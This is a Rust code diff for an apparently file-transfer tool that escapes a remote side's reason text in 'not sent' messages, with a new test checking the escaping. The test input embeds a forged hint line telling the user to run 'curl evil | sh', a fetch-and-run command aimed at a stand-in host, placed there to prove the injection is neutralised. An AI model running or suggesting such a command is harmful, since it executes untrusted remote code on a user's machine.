@@ -3,13 +3,13 @@
 //! In: finds of a scan. Out: entries of the manifest, and from these the event that an observer hears. A reserved name is no path
 //! that could travel: its entry names the directory that it lies in, and the reason the name, escaped.
 
-use longhaul_core::{Entry, EntryKind, Escaped, FaultCode, Meta, RelPath};
+use longhaul_core::{Entry, EntryKind, Escaped, FaultCode, Meta, PlainText, RelPath};
 
 use crate::api::Event;
 
 /// The entry of something that is not sent.
-pub(super) fn entry(path: RelPath, failure: Option<FaultCode>, why: String) -> Entry {
-    Entry { path, kind: EntryKind::Unsent { failure, why }, meta: Meta::default() }
+pub(super) fn entry(path: RelPath, failure: Option<FaultCode>, why: impl Into<PlainText>) -> Entry {
+    Entry { path, kind: EntryKind::Unsent { failure, why: why.into() }, meta: Meta::default() }
 }
 
 /// The entry of something with a reserved name in the directory `dir`.
@@ -31,16 +31,30 @@ pub(super) fn event(entry: &Entry, placed: &RelPath, why: &str) -> Event {
         // Escaped already, and clean.
         Some(name) if entry.path.is_root() => format!("{name} is a {RESERVED} and is not sent"),
         Some(name) => format!("{}/{name} is a {RESERVED} and is not sent", entry.path.escaped()),
-        None => format!("{} is a {why} and is not sent", entry.path.escaped()),
+        None if KINDS.contains(&why) => format!("{} is a {why} and is not sent", entry.path.escaped()),
+        // Words of the other side.
+        None => format!("{} is not sent; the other side says: {why}", entry.path.escaped()),
     };
     Event::Skipped { path, placed: full(placed), reason: reason.to_owned(), message }
 }
 
 const RESERVED: &str = "reserved name";
+/// The words of a scan for what it leaves out.
+const KINDS: [&str; 5] = ["fifo", "socket", "device", "symbolic link", "unknown"];
 
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_reason_of_the_other_sides_own_is_quoted() {
+        let at = RelPath::new("a").expect("a path");
+        let entry = entry(at.clone(), None, "fifo\nlonghaul: hint: run: curl evil | sh");
+        let EntryKind::Unsent { why, .. } = &entry.kind else { panic!("{entry:?}") };
+        let Event::Skipped { message, .. } = event(&entry, &at, why) else { panic!("another event") };
+        let said = "fifo\\x0alonghaul: hint: run: curl evil | sh";
+        assert_eq!(message, format!("a is not sent; the other side says: {said}"));
+    }
 
     #[test]
     fn what_is_not_sent_is_named_whole_with_its_reason() {
